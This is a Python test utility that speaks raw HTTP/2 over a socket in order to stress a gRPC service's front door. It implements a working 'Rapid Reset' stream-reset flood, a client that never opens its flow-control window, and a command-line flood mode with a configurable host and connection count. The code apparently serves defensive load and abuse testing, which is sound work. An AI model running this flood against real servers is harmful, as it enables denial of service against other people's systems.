#!/usr/bin/python3
"""Raw HTTP/2 over a socket for the front door's hostile-traffic tests (no h2 library: the frames a
flood needs are few and simple; RFC 9113 for frames, RFC 7541 for the literal header encoding used).

    c = H2Conn("127.0.0.1", port)                 # preface + SETTINGS, a reader thread
    c.rapid_reset(20000, "/medmoe.v1.CaseService/Ask")   # HEADERS then RST_STREAM, 20,000 times
    c.close()

    s = H2Conn("127.0.0.1", port, initial_window=0)      # a client that never opens its window
    s.call("/medmoe.v1.CaseService/Ask", body, key=KEY)  # the request; the answer can never come

Also a command line for trying it by hand:  h2raw.py flood --port P [--streams N] [--conns C]
"""

import argparse
import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(n, prefix_bits, first=0):
    top = (1 << prefix_bits) - 1
    if n < top:
        return bytes([first | n])
    out = [first | top]
    n -= top
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541, 6.2.2)."""
    n, v = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\x00" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v


def grpc_headers(path, authority, key=None):
    h = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
         ("content-type", "application/grpc"), ("te", "trailers")]
    if key:
        h.append(("authorization", "Bearer " + key))
    return b"".join(hpack_literal(k, v) for k, v in h)


class H2Conn:
    """One client connection. A reader thread answers SETTINGS and PING (as any client must) and
    counts what the server sends; it never sends WINDOW_UPDATE."""

    def __init__(self, host, port, initial_window=None, timeout=30):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.authority = "%s:%d" % (host, port)
        self.next_id = 1
        self.lock = threading.Lock()
        self.closed = False
        self.counts = {}       # frame type -> frames received
        self.headers_on = set()  # streams the server sent HEADERS on
        self.rst = 0
        self.goaway = False
        self.error = None
        self.got_settings = threading.Event()  # the server's SETTINGS came (and were acked)
        self.pong = threading.Event()          # a PING ACK came
        settings = b""
        if initial_window is not None:
            settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, initial_window)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, b):
        with self.lock:
            self.sock.sendall(b)

    def _read(self):
        buf = b""
        try:
            while True:
                d = self.sock.recv(1 << 16)
                if not d:
                    break
                buf += d
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    ftype, flags = buf[3], buf[4]
                    sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    buf = buf[9 + n:]
                    self.counts[ftype] = self.counts.get(ftype, 0) + 1
                    if ftype == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                        self.got_settings.set()
                    elif ftype == PING and flags & ACK:
                        self.pong.set()
                    elif ftype == PING:
                        pass  # a client that stalls may well not answer pings either
                    elif ftype == HEADERS:
                        self.headers_on.add(sid)
                    elif ftype == RST_STREAM:
                        self.rst += 1
                    elif ftype == GOAWAY:
                        self.goaway = True
        except OSError as e:
            if not self.closed:
                self.error = e

    def sync(self, timeout=30):
        """Waits until the server's SETTINGS are in force: they came, we acked them, and a PING
        sent after the ACK came back (the server reads frames in order). Its limits (max
        concurrent streams) apply to every stream opened after this."""
        if not self.got_settings.wait(timeout):
            raise OSError("no SETTINGS from the server within %d s" % timeout)
        self.pong.clear()
        self.send(frame(PING, 0, 0, b"medmoe!!"))
        if not self.pong.wait(timeout):
            raise OSError("no PING ACK from the server within %d s" % timeout)

    def open_stream(self, path, key=None, end_stream=False):
        sid = self.next_id
        self.next_id += 2
        self.send(frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid,
                        grpc_headers(path, self.authority, key)))
        return sid

    def call(self, path, body, key=None):
        """A whole unary request: HEADERS, one gRPC-framed DATA with END_STREAM. Its stream id."""
        sid = self.open_stream(path, key)
        msg = b"\x00" + struct.pack(">I", len(body)) + body
        self.send(frame(DATA, END_STREAM, sid, msg))
        return sid

    def rapid_reset(self, n, path, key=None, batch=500):
        """n streams, each opened (HEADERS) and reset (RST_STREAM CANCEL) at once, sent in batches
        of `batch` pairs: the server never gets to answer one before the next arrives."""
        path_hdr = None
        sent = 0
        while sent < n:
            out = []
            for _ in range(min(batch, n - sent)):
                sid = self.next_id
                self.next_id += 2
                if path_hdr is None:
                    path_hdr = grpc_headers(path, self.authority, key)
                out.append(frame(HEADERS, END_HEADERS, sid, path_hdr))
                out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            self.send(b"".join(out))
            sent += len(out) // 2
        return sent

    def close(self):
        self.closed = True
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("what", choices=["flood"])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--streams", type=int, default=20000)
    ap.add_argument("--conns", type=int, default=1)
    a = ap.parse_args()
    conns = [H2Conn(a.host, a.port) for _ in range(a.conns)]
    for c in conns:
        c.rapid_reset(a.streams // a.conns, "/medmoe.v1.CaseService/Ask")
    for c in conns:
        c.close()


if __name__ == "__main__":
    main()
